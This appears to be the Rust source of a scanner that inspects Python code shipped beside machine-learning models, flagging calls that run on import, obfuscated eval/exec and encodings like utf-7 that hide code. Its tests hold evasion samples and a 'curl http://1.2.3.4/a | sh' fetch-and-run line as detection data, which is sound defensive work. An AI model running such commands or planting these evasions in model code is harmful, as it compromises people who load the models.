//! Python code beside a model that loaders run: classes that `auto_map` names (`modeling_x.py`), handlers of servers.
//!
//! Its tree is walked as an import would run it, with names, texts and functions followed to where they lead: what it
//! calls of processes, evaluation, sockets and native code, and whether an import is enough to run it.

use ruff_python_ast::PythonVersion;
use ruff_python_parser::{Mode, ParseOptions, parse_unchecked};
use trueline_facts::artifact::Verdict;

use crate::code::is_payload;
use crate::inspection::{Inspection, printable};
use crate::technique;

mod depth;
mod expression;
mod reach;
mod value;
mod walk;

use walk::{Finding, Kind, Walk};

/// Code that is read of one file.
pub(crate) const MAX_CODE: usize = 4 << 20;
/// Calls that are told of one file.
const MAX_TOLD: usize = 20;

/// Names that loaders of model repositories and model servers import.
pub(crate) fn is_model_code(lower: &str) -> bool {
    const STARTS: &[&str] = &[
        "modeling_",
        "modelling_",
        "tokenization_",
        "configuration_",
        "processing_",
        "image_processing_",
        "video_processing_",
        "feature_extraction_",
        "generation_",
    ];
    const NAMES: &[&str] = &[
        "handler",
        "pipeline",
        "custom_handler",
        "custom_st",
        "generate",
        "inference",
    ];
    lower.strip_suffix(".py").is_some_and(|stem| {
        STARTS.iter().any(|start| stem.starts_with(start)) || NAMES.contains(&stem)
    })
}

/// What is known of the code from where it stands.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Role {
    /// Loaders run it: it is `unknown` as such.
    Loaded,
    /// It stands beside a model or in an archive of one: what it does is told, and nothing where it does nothing.
    Beside,
    /// A configuration that is written in Python: loaders import it and take its names.
    Configuration,
}

/// Is it a configuration that is written in Python, as detection and segmentation frameworks have them?
pub(crate) fn is_configuration(code: &str) -> bool {
    code.lines().take(5_000).any(|line| {
        line.split_once('=').is_some_and(|(name, value)| {
            let name = name.trim_end();
            let is_name = !line.starts_with(char::is_whitespace)
                && !name.is_empty()
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
            let value = value.trim_start();
            is_name
                && (value.starts_with("dict(type=")
                    || value.starts_with("L(")
                    || value.starts_with("LazyCall("))
        })
    })
}

/// Inspects the text of such a file.
pub(crate) fn inspect(inspection: &mut Inspection, code: &str, len: u64, role: Role) {
    if role == Role::Loaded {
        inspection.report(
            Verdict::Unknown,
            technique::AUTO_MAP,
            0,
            "Python code beside a model, which loaders run (with trust_remote_code, or as a handler): read it as you read a program",
        );
    }
    if len > MAX_CODE as u64 {
        inspection.report(
            Verdict::Unknown,
            technique::BUDGET,
            0,
            "code of more than 4 MB was not read to its end",
        );
    }
    hidden_by_encoding(inspection, code);
    let code = code.trim_start_matches('\u{feff}');
    if depth::is_too_deep(code) {
        inspection.report(
            Verdict::Suspicious,
            technique::BUDGET,
            0,
            "the code nests deeper than people write and was not followed",
        );
        return;
    }
    let options = ParseOptions::from(Mode::Module).with_target_version(PythonVersion::latest());
    let parsed = parse_unchecked(code, options);
    let Some(module) = parsed.syntax().as_module() else {
        return;
    };
    if !parsed.errors().is_empty() {
        unread(inspection, code, role);
    }
    let walk = Walk::of(&module.body, code.len());
    if !walk.is_whole() {
        inspection.report(
            Verdict::Suspicious,
            technique::BUDGET,
            0,
            "the code gives and computes more names than are followed: what it calls is not known",
        );
    }
    tell(inspection, code, role, walk.findings.into_iter().collect());
}

/// Text that is kept for an expression: what evaluating it does to the outside, if it is one and does anything.
pub(crate) fn expression_reaches(text: &str) -> Option<String> {
    const MAX_EXPRESSION: usize = 4096;
    let may = text.contains("__")
        || text.contains('(')
            && [
                "os.",
                "subprocess",
                "eval",
                "exec",
                "open",
                "system",
                "popen",
            ]
            .iter()
            .any(|word| text.contains(word));
    if text.len() > MAX_EXPRESSION || !may || depth::is_too_deep(text) {
        return None;
    }
    let options = ParseOptions::from(Mode::Module).with_target_version(PythonVersion::latest());
    let parsed = parse_unchecked(text.trim(), options);
    let module = parsed.syntax().as_module()?;
    // A sentence is no expression.
    if !parsed.errors().is_empty() || module.body.len() != 1 {
        return None;
    }
    let walk = Walk::of(&module.body, text.len());
    let worst = walk
        .findings
        .into_values()
        .filter(|f| f.kind > Kind::Mild)
        .max_by_key(|f| f.kind)?;
    Some(worst.what)
}

fn tell(
    inspection: &mut Inspection,
    code: &str,
    role: Role,
    findings: Vec<((u32, String), Finding)>,
) {
    let verdict = |finding: &Finding| match (finding.kind, finding.runs_now) {
        (Kind::Payload, _) | (Kind::Reaches, true) => Verdict::Malicious,
        (Kind::Reaches, false) | (Kind::Mild, _) => Verdict::Suspicious,
    };
    let mut findings = findings;
    // Many calls of one kind must not hide a worse one.
    findings.sort_by_key(|(place, finding)| (std::cmp::Reverse(verdict(finding)), place.0));
    for ((offset, _), finding) in findings.into_iter().take(MAX_TOLD) {
        // Configurations call nothing: what stands in functions of them is no part of one.
        if role == Role::Configuration && !finding.runs_now {
            continue;
        }
        let line = expression::line_at(code, offset as usize);
        inspection.report_call(
            verdict(&finding),
            technique::MODEL_CODE,
            u64::from(offset),
            format!(
                "the model's code {}{}",
                finding.what,
                if finding.runs_now {
                    ", as soon as it is imported"
                } else {
                    ""
                }
            ),
            Some(printable(line.trim())),
        );
    }
}

/// Code in an encoding that is not ASCII where ASCII stands: what a reader sees is not what Python runs.
fn hidden_by_encoding(inspection: &mut Inspection, code: &str) {
    /// Those in which letters stand for others.
    const HIDING: &[&str] = &[
        "utf-7",
        "utf7",
        "u7",
        "unicode-1-1-utf-7",
        "punycode",
        "idna",
        "cp037",
        "ibm037",
        "cp273",
        "cp424",
        "cp500",
        "cp875",
        "cp1026",
        "cp1140",
    ];
    for line in code.lines().take(2) {
        let Some(name) = encoding_of(line) else {
            continue;
        };
        if HIDING.contains(&name.as_str()) || name.ends_with("escape") {
            inspection.report(
                Verdict::Malicious,
                technique::MODEL_CODE,
                0,
                format!("the code is written in the encoding {name}, which hides what it says"),
            );
        }
        // The first line that names one decides.
        return;
    }
}

/// The encoding that a comment names, of those in it the first that is one.
fn encoding_of(line: &str) -> Option<String> {
    let is_part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
    let comment = line.trim_start().strip_prefix('#')?;
    comment.split("coding").skip(1).find_map(|rest| {
        let rest = rest.strip_prefix([':', '='])?.trim_start();
        let end = rest.find(|c| !is_part(c)).unwrap_or(rest.len());
        (end > 0).then(|| rest[..end].to_ascii_lowercase().replace('_', "-"))
    })
}

/// What the parser does not understand: Python 2, or code that is made to be misread.
fn unread(inspection: &mut Inspection, code: &str, role: Role) {
    if role == Role::Loaded {
        inspection.report(
            Verdict::Unknown,
            technique::BUDGET,
            0,
            "the code has lines that Python 3 does not understand: they were not followed",
        );
    }
    let mut offset = 0u64;
    for line in code.split_inclusive('\n') {
        if is_payload(line) {
            inspection.report_call(
                Verdict::Malicious,
                technique::MODEL_CODE,
                offset,
                "the code holds a text that is meant to be run",
                Some(printable(line.trim())),
            );
            return;
        }
        offset += line.len() as u64;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(code: &str) -> Verdict {
        let mut inspection = Inspection::new(code.len() as u64);
        inspect(&mut inspection, code, code.len() as u64, Role::Loaded);
        inspection.into_parts().0
    }

    #[test]
    fn what_runs_on_import_is_worse_than_what_a_function_does() {
        assert_eq!(verdict("import os\nos.system('id')\n"), Verdict::Malicious);
        assert_eq!(
            verdict("class M:\n    def f(self):\n        os.system('id')\n"),
            Verdict::Suspicious
        );
        assert_eq!(
            verdict("class M:\n    x = eval('1')\n    def f(self):\n        pass\n"),
            Verdict::Malicious
        );
        assert_eq!(
            verdict("def f():\n    pass\nexec(b64decode(x))\n"),
            Verdict::Malicious
        );
    }

    #[test]
    fn other_names_hide_nothing() {
        for code in [
            "from os import system\nsystem('id')\n",
            "import subprocess as sp\ndef f():\n    sp.run(['id'])\n",
            "import os as o\no.popen('id')\n",
            "g = getattr(__builtins__, 'ev' + 'al')\n",
            "import importlib\nimportlib.import_module('o' + 's').system('id')\n",
        ] {
            assert!(verdict(code) >= Verdict::Suspicious, "{code}");
        }
        assert_eq!(
            verdict("from os import path\nimport os as o\nx = o.path.join(path.sep, 'a')\n"),
            Verdict::Unknown
        );
    }

    #[test]
    fn statements_of_one_line_are_read_one_by_one() {
        for code in [
            "import os; os.system('id')\n",
            "import os as o; o.system('id')\n",
            "x = 1; from os import system; system('id')\n",
            "if True: from os import system as s\ns('id')\n",
            "class A: import os as o; o.popen('id')\n",
            "from os import (\n    path,\n    system,\n)\nsystem('id')\n",
            "from os \\\n    import system\nsystem('id')\n",
            "from os import(system)\nsystem('id')\n",
            "from os import *\nsystem('id')\n",
            "x = 'a \\\n'; import os; os.system('id')\n",
            "x = 'a \\\nfrom b import ('\nfrom os import system\nsystem('id')\n",
        ] {
            assert_eq!(verdict(code), Verdict::Malicious, "{code}");
        }
        for code in [
            "x = 'import os; os.system(1)'; y = 2\n",
            "import os; x = 1 # ; os.system('id')\n",
            "import ctypes.util; from ctypes.util import find_library\n",
            "def f(): import os; return os.getcwd()\n",
        ] {
            assert_eq!(verdict(code), Verdict::Unknown, "{code}");
        }
    }

    #[test]
    fn bodies_of_functions_on_the_line_of_their_head_do_not_run_on_import() {
        for code in [
            "def f(): os.system('id')\n",
            "def f(): x = 1; os.system('id')\n",
            "async def f(): os.system('id')\n",
            "class A:\n    async def f(self): os.system('id')\n",
            "def f():\n    @eval('x')\n    def g(): pass\n",
        ] {
            assert_eq!(verdict(code), Verdict::Suspicious, "{code}");
        }
    }

    #[test]
    fn decorators_run_on_import() {
        for code in [
            "@eval('x')\ndef f(): pass\n",
            "class A:\n    @exec('x')\n    async def f(self):\n        pass\n",
        ] {
            assert_eq!(verdict(code), Verdict::Malicious, "{code}");
        }
        assert_eq!(
            verdict("@torch.no_grad()\ndef f(): pass\n@dataclass\nclass A: pass\n"),
            Verdict::Unknown
        );
    }

    #[test]
    fn many_names_hide_no_call() {
        use std::fmt::Write as _;
        let mut code = String::from("from subprocess import DEVNULL");
        for n in 0..100 {
            let _ = write!(code, ", PIPE as p{n}");
        }
        code.push_str("\nfrom os import system as s\n");
        assert_eq!(verdict(&code), Verdict::Unknown);
        code.push_str("s('id')\n");
        assert_eq!(verdict(&code), Verdict::Malicious);
    }

    #[test]
    fn many_calls_in_functions_hide_none_that_runs_on_import() {
        let mut code = "def f(): os.system('id')\n".repeat(2 * MAX_TOLD);
        assert_eq!(verdict(&code), Verdict::Suspicious);
        code.push_str("exec(x)\n");
        assert_eq!(verdict(&code), Verdict::Malicious);
    }

    #[test]
    fn ordinary_model_code_is_unknown() {
        let code = concat!(
            "\"\"\"Runs `os.system(...)`? No.\"\"\"\n",
            "import os\nimport subprocess\nimport torch\n",
            "# exec(x)\n",
            "class Net(torch.nn.Module):\n",
            "    def forward(self, x):\n",
            "        self.eval()\n",
            "        return torch.compile(x)\n",
            "    def save_vocabulary(self, path):\n",
            "        with open(os.path.join(path, 'vocab.txt'), 'w') as f:\n",
            "            f.write('exec(1)')\n",
            "        image = requests.get(url)\n",
        );
        assert_eq!(verdict(code), Verdict::Unknown);
    }

    #[test]
    fn encodings_that_hide_what_is_written_are_told() {
        assert_eq!(
            verdict("# -*- coding: utf_7 -*-\nx = 1\n"),
            Verdict::Malicious
        );
        assert_eq!(
            verdict("#!/usr/bin/python\n# coding=unicode_escape\n"),
            Verdict::Malicious
        );
        assert_eq!(
            verdict("# -*- coding: utf-8 -*-\n# Decoding: idna is none\n"),
            Verdict::Unknown
        );
        // Python takes the first that names one.
        assert_eq!(
            verdict("# coding coding: utf-7\nx = 1\n"),
            Verdict::Malicious
        );
        assert_eq!(
            verdict("# coding:! coding=\tutf-7\nx = 1\n"),
            Verdict::Malicious
        );
        assert_eq!(
            verdict("# coding: utf-8 coding: utf-7\nx = 1\n"),
            Verdict::Unknown
        );
    }

    #[test]
    fn what_is_computed_is_bounded() {
        let code = format!(
            "x = 'a' * 60000\n{}",
            "y = x.replace('b', 'c')\n".repeat(90_000)
        );
        assert_eq!(verdict(&code), Verdict::Suspicious);
        let code = "def f(): pass\n".repeat(100_000);
        assert_eq!(verdict(&code), Verdict::Unknown);
        let deep = format!("x = {}1{}\n", "[".repeat(190), "]".repeat(190));
        assert!(verdict(&deep) >= Verdict::Suspicious);
        let sum = format!(
            "x = '' {}\nimport os\nos.system('id')\n",
            "+ 'a'".repeat(900)
        );
        assert_eq!(verdict(&sum), Verdict::Malicious);
    }

    #[test]
    fn depth_that_hides_in_a_text_or_a_line_that_goes_on_is_refused() {
        for code in [
            format!("x = f\"{{{}1}}\"\n", "-".repeat(3_000_000)),
            format!("x = {}1\n", "not \\\n".repeat(500_000)),
            format!("x = f'{{a'\n}};y = 1{}\n", "+1".repeat(500_000)),
            format!("x = f'{{a'\n}};y = {}\n", "(1,".repeat(500_000)),
        ] {
            assert_eq!(verdict(&code), Verdict::Suspicious, "{}", &code[..20]);
        }
    }

    #[test]
    fn stars_without_end_hide_no_module() {
        let call = "from os import *\nsystem('id')\n";
        let code = format!("{}{call}", "from math import *\n".repeat(100));
        assert_eq!(verdict(&code), Verdict::Malicious);
        let many: Vec<String> = (0..100).map(|n| format!("from m{n} import *\n")).collect();
        assert_eq!(
            verdict(&format!("{}{call}", many.concat())),
            Verdict::Suspicious
        );
    }

    #[test]
    fn a_name_that_the_code_gives_itself_guards_nothing() {
        let guard = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
        assert_eq!(verdict(guard), Verdict::Suspicious);
        for given in [
            "__name__ = '__main__'\n",
            "import x as __name__\n",
            "for __name__ in ['__main__']: pass\n",
            "a, __name__ = 1, '__main__'\n",
            "(__name__ := '__main__')\n",
            "globals()['__name__'] = '__main__'\n",
            "globals().update(__name__='__main__')\n",
            "globals().update({'__name__': '__main__'})\n",
            "def f():\n    global __name__\n    __name__ = '__main__'\nf()\n",
        ] {
            let code = format!("{given}{guard}");
            assert_eq!(verdict(&code), Verdict::Malicious, "{given}");
        }
        let loops = format!(
            "import os\nfor i in [0, 1]:\n    if __name__ == '__main__':\n        {}\n    __name__ = '__main__'\n",
            "os.system('id')"
        );
        assert_eq!(verdict(&loops), Verdict::Malicious);
        let other = format!("def f(): pass\nf.__name__ = 'g'\nx = f.__name__\n{guard}");
        assert_eq!(verdict(&other), Verdict::Suspicious);
    }

    #[test]
    fn names_of_comprehensions_are_given_back() {
        let code = format!(
            "x = {:?}\ny = [a for a in x]\n",
            (0..500).collect::<Vec<_>>()
        );
        let code = format!("{code}{}", "y = [a for a in x]\n".repeat(200));
        assert_eq!(verdict(&code), Verdict::Unknown);
    }

    #[test]
    fn a_character_across_the_bound_of_a_text_hides_none_of_it() {
        let call = "import os; os.system('curl http://1.2.3.4/a | sh')";
        for shift in 0..4 {
            let text = format!("{call}{}{}", "a".repeat(shift), "\u{1f600}".repeat(20_000));
            let code = format!("x = \"{text}\"\n");
            assert_eq!(verdict(&code), Verdict::Malicious, "{shift}");
        }
    }

    #[test]
    fn names_of_code_that_loaders_import() {
        assert!(is_model_code("modeling_x.py") && is_model_code("handler.py"));
        assert!(!is_model_code("train.py") && !is_model_code("modeling_x.txt"));
    }
}
